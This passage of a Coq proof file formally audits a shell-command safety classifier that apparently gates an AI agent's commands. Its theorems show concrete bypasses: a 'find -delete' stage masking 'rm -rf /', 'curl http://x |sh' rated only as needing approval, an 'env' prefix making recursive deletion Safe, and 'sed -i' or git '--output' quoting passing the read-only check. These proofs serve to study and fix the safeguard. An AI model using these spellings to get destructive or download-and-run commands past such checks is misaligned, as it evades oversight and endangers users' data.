  ch ∈ lit "|;" -> seg ∈ split_command_segments c -> ch ∉ seg.
Proof.
  unfold split_command_segments. intros Hch Hs Hin.
  apply list_elem_of_In, List.filter_In in Hs as [Hs _]. apply list_elem_of_In in Hs.
  apply list_elem_of_fmap in Hs as (t & -> & Ht). apply trim_elem in Hin. revert Hin.
  by apply (in_segments_loop ch [] c); [|set_solver|].
Qed.

Lemma remote_pipe_dead c : pipes_remote_content_to_shell c = false.
Proof.
  apply not_true_iff_false. unfold pipes_remote_content_to_shell. rewrite existsb_exists.
  intros (seg & Hin & Hseg). apply list_elem_of_In in Hin.
  rewrite split_char_word in Hseg; [done|]. apply (segments_have_no_operator _ c); [set_solver|done].
Qed.

(** The stage that decides: the first one the analysis has anything to say about. *)
Lemma patterns_of_stage c before s after a :
  split_command_segments c = before ++ s :: after -> analyze_segment s = Some a ->
  exists b, analyze_destructive_patterns c = Some b
    /\ (level b = Dangerous \/ exists s', s' ∈ before ++ [s] /\ analyze_segment s' = Some b).
Proof.
  intros Hc Ha. unfold analyze_destructive_patterns. rewrite Hc.
  destruct (primary_shell_command_is c _); [eexists; split; [done|by left]|].
  destruct (pipes_remote_content_to_shell c); [eexists; split; [done|by left]|].
  destruct (head_omap_app analyze_segment before s after) as (y & Hy & Hh).
  destruct Hh as [[b Hb] ->]; [by eexists|]. exists b. split; [done|]. right. eauto.
Qed.


(** A confined [find] hides what follows it. When the first stage of a command line
    is a [find] that deletes below a workspace-relative root, the whole line is judged
    in need of approval, never dangerous, whatever the later stages delete: the
    analysis returns at the first stage it has an answer for. *)
Theorem confined_find_masks_later_stages c s after n prog args :
  contains_char c_nl c || contains_char c_cr c || contains_char 0 c = false ->
  primary_shell_command_is c (lit "eval") = false ->
  split_command_segments c = s :: after ->
  runs n s prog args -> command_word prog = lit "find" -> lit "-delete" ∈ args ->
  existsb broad_root (take_while (fun arg => negb (is_flag arg)) args) = false ->
  level (analyze_command c) = RequiresApproval.
Proof.
  intros Hch He Hc Hr Hw Hm Hb.
  apply orb_false_iff in Hch as [Hnl Hz]. unfold analyze_command. rewrite Hnl, Hz.
  unfold analyze_destructive_patterns. rewrite He, (remote_pipe_dead c), Hc. cbn [omap list_omap].
  replace (analyze_segment s) with (Some (requires_approval [lit "find command may delete files"])); [done|].
  unfold analyze_segment.
  destruct (runs_unwraps _ _ _ _ _ Hr Hw) as (tokens & i & -> & -> & -> & ->);
    [by apply str_mem_false|by apply str_mem_false|done|done|done|].
  cbn [default from_option id]. change (str_eqb (lit "find") (lit "rm")) with false. cbv iota.
  rewrite (proj2 (str_eqb_spec _ _)) by done. unfold analyze_find_mutation.
  rewrite (proj2 (str_mem_spec args _) Hm). cbn [orb negb]. unfold broad_root in Hb. by rewrite Hb.
Qed.

End Peeling.

(** ** Spellings that get past the classifiers *)

(** The words of a text that is their spellings, one space apart. *)
Lemma shell_words_spelled `{Sh : Shlex, !ShlexLaws Sh} words texts :
  Forall2 spelled words texts -> shell_words (str_join [c_space] texts) = words.
Proof. intros Hw. unfold shell_words. by rewrite (shlex_words _ _ Hw). Qed.

Section Spellings.
Context `{Sh : Shlex, !ShlexLaws Sh, Uc : UnicodeCase, !UnicodeCaseLaws Uc}.

Definition plain_word (w : list N) : bool := negb (str_is_empty w) && forallb plain_char w.

Lemma plain_words_spelled words : forallb plain_word words = true -> Forall2 spelled words words.
Proof.
  induction words as [|w words IH]; cbn; intros Hw; constructor; apply andb_true_iff in Hw as [Hw Hws].
  - apply andb_true_iff in Hw as [Hne Hw]. constructor; [by destruct w|].
    apply List.Forall_forall. by apply (proj1 (forallb_forall _ _)).
  - by apply IH.
Qed.

(** Two splitters judge a command alike when they agree on the texts the analysis
    looks at and no [sh -c] payload is read. *)
Definition agree (t : list N) : Prop :=
  @shell_words Sh t = @shell_words posix_split t
  /\ exists argv, @unwrap_round posix_split (@shell_words posix_split t) = inl argv.

Definition looked_at (c : list N) : list (list N) := trim c :: split_command_segments c.

Lemma agree_plain words argv :
  forallb plain_word words = true -> @unwrap_round posix_split words = inl argv -> agree (str_join [c_space] words).
Proof.
  intros Hw%plain_words_spelled Hr. unfold agree.
  rewrite (shell_words_spelled _ _ Hw), (@shell_words_spelled posix_split _ _ _ Hw), Hr. eauto.
Qed.

Lemma agree_unwraps t :
  agree t -> @unwrap_to_effective_tokens Sh (@shell_words Sh t)
             = @unwrap_to_effective_tokens posix_split (@shell_words posix_split t).
Proof.
  intros [-> [argv Hr]]. unfold unwrap_to_effective_tokens. cbn [unwrap_loop MAX_WRAPPER_DEPTH]. rewrite Hr.
  replace (@unwrap_round Sh (@shell_words posix_split t)) with (@inl _ (list (list N)) argv); [done|].
  rewrite <- Hr. unfold unwrap_round in *. repeat case_match; simplify_eq; done.
Qed.

Lemma agree_segment t : agree t -> @analyze_segment Sh t = @analyze_segment posix_split t.
Proof. intros Ht. unfold analyze_segment. by rewrite (agree_unwraps _ Ht). Qed.

Lemma agree_patterns c :
  Forall agree (looked_at c) -> @analyze_destructive_patterns Sh c = @analyze_destructive_patterns posix_split c.
Proof.
  intros [_ Hall]%Forall_cons. unfold analyze_destructive_patterns. rewrite !remote_pipe_dead.
  replace (@primary_shell_command_is Sh c (lit "eval")) with (@primary_shell_command_is posix_split c (lit "eval")).
  - replace (omap (@analyze_segment Sh) (split_command_segments c))
      with (omap (@analyze_segment posix_split) (split_command_segments c)); [done|].
    induction Hall as [|t l Ht Hl IH]; [done|]. cbn. by rewrite (agree_segment _ Ht), IH.
  - unfold primary_shell_command_is. induction Hall as [|t l [Ht _] Hl IH]; [done|].
    cbn [existsb]. by rewrite IH, Ht.
Qed.

(** On ASCII commands two analyses that agree on the words are the same. *)
Lemma analyze_command_agrees c :
  Forall (fun ch => (ch < 128)%N) c -> Forall agree (looked_at c) ->
  @analyze_command Sh Uc c = @analyze_command posix_split ascii_case c.
Proof.
  intros Hc Hall. assert (Ht : Forall (fun ch => (ch < 128)%N) (trim c)).
  { apply Forall_forall. intros ch Hch%trim_elem. by apply (proj1 (Forall_forall _ _) Hc). }
  assert (Hsafe : @is_safe_command Sh Uc (trim c) = @is_safe_command posix_split ascii_case (trim c)).
  { apply Forall_cons in Hall as [[Hw _] _]. unfold is_safe_command. by rewrite Hw, (lowercase_ascii _ Ht). }
  assert (Hws : @is_workspace_safe_command Sh Uc (trim c) = @is_workspace_safe_command posix_split ascii_case (trim c)).
  { apply Forall_cons in Hall as [Hw _]. unfold is_workspace_safe_command.
    by rewrite (agree_unwraps _ Hw), (lowercase_ascii _ Ht). }
  unfold analyze_command. rewrite (agree_patterns _ Hall), Hsafe, Hws, (lowercase_ascii _ Hc).
  unfold DANGEROUS_PATTERNS. cbn [List.find fst].
  by rewrite !(lowercase_ascii (lit _)) by (vm_compute; repeat constructor).
Qed.

(** A command whose texts are plain words, [texts] of them, none behind [sh -c]. *)
Definition plain_command (c : list N) (texts : list (list (list N))) : bool :=
  forallb (fun ch => (ch <? 128)%N) c
  && bool_decide (looked_at c = str_join [c_space] <$> texts)
  && forallb (fun words => forallb plain_word words
                           && match @unwrap_round posix_split words with inl _ => true | inr _ => false end) texts.

Lemma analyze_plain_command c texts :
  plain_command c texts = true -> @analyze_command Sh Uc c = @analyze_command posix_split ascii_case c.
Proof.
  unfold plain_command. intros [[Hc Hl]%andb_true_iff Ht]%andb_true_iff. apply bool_decide_eq_true in Hl.
  apply analyze_command_agrees.
  - apply List.Forall_forall. intros ch Hin. apply N.ltb_lt. by apply (proj1 (forallb_forall _ _) Hc).
  - rewrite Hl. clear Hl. induction texts as [|ws texts IH]; [constructor|].
    cbn [forallb] in Ht. apply andb_true_iff in Ht as [[Hp Hr]%andb_true_iff Ht]. constructor; [|by apply IH].
    destruct (unwrap_round ws) as [argv|] eqn:E; [|done]. by apply (agree_plain ws argv).
Qed.

(** The check for remote content piped into a shell is dead code: the stages it
    searches for a pipe have been cut at every pipe, so it answers no for every
    command, under any word splitter. Such pipelines are found only by the textual
    fallback, which wants a space behind the bar: without it the download that runs as
    a script is judged like any download, in need of approval and not dangerous. *)
Theorem remote_pipe_check_is_dead :
  (forall c, @pipes_remote_content_to_shell Sh c = false)
  /\ level (analyze_command (lit "curl http://x | sh")) = Dangerous
  /\ level (analyze_command (lit "curl http://x |sh")) = RequiresApproval.
Proof.
  split; [apply remote_pipe_dead|]. split.
  - by rewrite (analyze_plain_command _ [[lit "curl"; lit "http://x"; lit "|"; lit "sh"];
      [lit "curl"; lit "http://x"]; [lit "sh"]]) by (vm_compute; reflexivity).
  - by rewrite (analyze_plain_command _ [[lit "curl"; lit "http://x"; lit "|sh"];
      [lit "curl"; lit "http://x"]; [lit "sh"]]) by (vm_compute; reflexivity).
Qed.

(** The safe commands are recognised by the text the command starts with. [env] is
    one of them and runs any program, so a copy from outside the workspace and a
    recursive deletion above it are called safe behind [env]; the latter because an
    option of [env] with a value hides the program from the destructive pass. A program
    whose name merely starts with a safe one is safe as well. *)
Theorem safe_by_leading_text :
  level (analyze_command (lit "env cp /tmp/x ./x")) = Safe
  /\ level (analyze_command (lit "env -u X rm -r ..")) = Safe
  /\ level (analyze_command (lit "setcap cap_setuid+ep ./x")) = Safe.
Proof.
  split_and!.
  - by rewrite (analyze_plain_command _ (let w := [lit "env"; lit "cp"; lit "/tmp/x"; lit "./x"] in [w; w]))
      by (vm_compute; reflexivity).
  - by rewrite (analyze_plain_command _ (let w := [lit "env"; lit "-u"; lit "X"; lit "rm"; lit "-r"; lit ".."] in [w; w]))
      by (vm_compute; reflexivity).
  - by rewrite (analyze_plain_command _ (let w := [lit "setcap"; lit "cap_setuid+ep"; lit "./x"] in [w; w]))
      by (vm_compute; reflexivity).
Qed.

(** A command of one stage is judged as that stage. *)
Lemma agent_one_stage c :
  let t := trim (normalize_windows_command_paths c) in
  negb (str_is_empty t) && negb (has_any (c_pipe :: agent_metachars) t) && str_eqb t c = true ->
  is_agent_readonly_shell_command c = is_agent_readonly_segment c.
Proof.
  cbv zeta. intros [[Hne Hm]%andb_true_iff Ht]%andb_true_iff. apply str_eqb_spec in Ht.
  unfold is_agent_readonly_shell_command. rewrite Ht in *. apply negb_true_iff in Hne as ->.
  apply negb_true_iff in Hm.
  assert (Hno : has_any agent_metachars c = false /\ c_pipe ∉ c).
  { clear -Hm. induction c as [|ch c IH]; [split; [done|set_solver]|].
    unfold has_any in *. cbn [existsb] in *. apply orb_false_iff in Hm as [Hc Hm]. destruct (IH Hm) as [-> Hp].
    change (contains_char ch (c_pipe :: agent_metachars)) with ((ch =? c_pipe)%N || contains_char ch agent_metachars) in Hc.
    apply orb_false_iff in Hc as [Hc%N.eqb_neq ->]. split; [done|]. set_solver. }
  destruct Hno as [-> Hp]. rewrite split_char_word by done. cbn [forallb]. by rewrite andb_true_r.
Qed.

Lemma spell_text w t :
  (if decide (w = t) then plain_word w
   else (str_eqb t ([c_squote] ++ w ++ [c_squote]) && negb (contains_char c_squote w))
        || (str_eqb t ([c_dquote] ++ w ++ [c_dquote]) && negb (contains_char c_dquote w) && negb (contains_char c_backslash w))) = true ->
  spelled w t.
Proof.
  destruct (decide (w = t)) as [<-|_].
  - intros Hw. eapply Forall2_cons_1, (plain_words_spelled [w]). cbn. by rewrite Hw.
  - intros [[Ht Hq]%andb_true_iff|[[Ht Hq]%andb_true_iff Hb]%andb_true_iff]%orb_true_iff;
      apply str_eqb_spec in Ht as ->; constructor; rewrite <- contains_char_spec; by apply not_true_iff_false, negb_true_iff.
Qed.

(** Rewrites the words of the text the goal splits, from their spellings. *)
Ltac words_of words texts :=
  match goal with
  | |- context [shell_words ?t] =>
      replace (shell_words t) with words
        by (symmetry; apply (shell_words_spelled words texts);
            repeat (apply Forall2_cons_2; [apply spell_text; vm_compute; reflexivity|]); apply Forall2_nil_2)
  end.

(** The read-only surface of agents admits calls that write. A [sed] call is judged
    by its first two arguments only, so [-i] behind the range script rewrites the file
    in place; and the arguments of a [git] call are joined by spaces and split a second
    time, so two quoted quotes turn the option between them, which names a file to
    write, into the value of another option. *)
Theorem agent_readonly_admits_writes :
  is_agent_readonly_shell_command (lit "sed -n 1p -i notes.txt") = true
  /\ let quote := [c_dquote; c_squote; c_dquote] in
     is_agent_readonly_shell_command
       (lit "git log --grep " ++ quote ++ lit " --output=notes.txt --author " ++ quote) = true.
Proof.
  split; [|cbv zeta]; rewrite agent_one_stage by (vm_compute; reflexivity);
    unfold is_agent_readonly_segment; cbv zeta;
    match goal with |- context [trim ?t] => replace (trim t) with t by (vm_compute; reflexivity) end.
  - words_of (lit <$> ["sed"; "-n"; "1p"; "-i"; "notes.txt"]%string)
      (lit <$> ["sed"; "-n"; "1p"; "-i"; "notes.txt"]%string).
    vm_compute. reflexivity.
  - words_of (lit <$> ["git"; "log"; "--grep"; "'"; "--output=notes.txt"; "--author"; "'"]%string)
      ((lit <$> ["git"; "log"; "--grep"]%string) ++ [[c_dquote; c_squote; c_dquote]]
       ++ (lit <$> ["--output=notes.txt"; "--author"]%string) ++ [[c_dquote; c_squote; c_dquote]]).
    change (readonly_tokens_admitted (lit "git log --grep ' --output=notes.txt --author '") = true).
    unfold readonly_tokens_admitted.
    words_of (lit <$> ["git"; "log"; "--grep"; " --output=notes.txt --author "]%string)
      (lit <$> ["git"; "log"; "--grep"; "' --output=notes.txt --author '"]%string).
    vm_compute. reflexivity.
Qed.

End Spellings.

(** ** Witnesses, with the reference splitter *)


(** The deletion of the root is asked about, not blocked, behind a confined [find]. *)
Lemma confined_find_masks_later_stages_witness :
  level (@analyze_command posix_split ascii_case (lit "find build -delete; rm -rf /")) = RequiresApproval
  /\ level (@analyze_command posix_split ascii_case (lit "rm -rf /")) = Dangerous.
Proof.
  split; [|vm_compute; reflexivity].
  apply (@confined_find_masks_later_stages posix_split ascii_case (lit "find build -delete; rm -rf /")
           (lit "find build -delete") [lit "rm -rf /"] 0 (lit "find") [lit "build"; lit "-delete"]).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - split; [vm_compute; lia|]. exists [lit "find"; lit "build"; lit "-delete"].
    split; [constructor|constructor; [discriminate|reflexivity|discriminate]].
  - vm_compute. reflexivity.
  - right. left.
  - vm_compute. reflexivity.
Defined.

Lemma remote_pipe_check_is_dead_witness :
  level (@analyze_command posix_split ascii_case (lit "curl http://x |sh")) = RequiresApproval.
Proof. apply (@remote_pipe_check_is_dead posix_split posix_split_laws ascii_case ascii_case_laws). Defined.

Lemma safe_by_leading_text_witness :
  level (@analyze_command posix_split ascii_case (lit "env -u X rm -r ..")) = Safe.
Proof. apply (@safe_by_leading_text posix_split posix_split_laws ascii_case ascii_case_laws). Defined.

Lemma agent_readonly_admits_writes_witness :
  @is_agent_readonly_shell_command posix_split (lit "sed -n 1p -i notes.txt") = true.
Proof. apply (@agent_readonly_admits_writes posix_split posix_split_laws). Defined.

End CommandSafetyFacts.
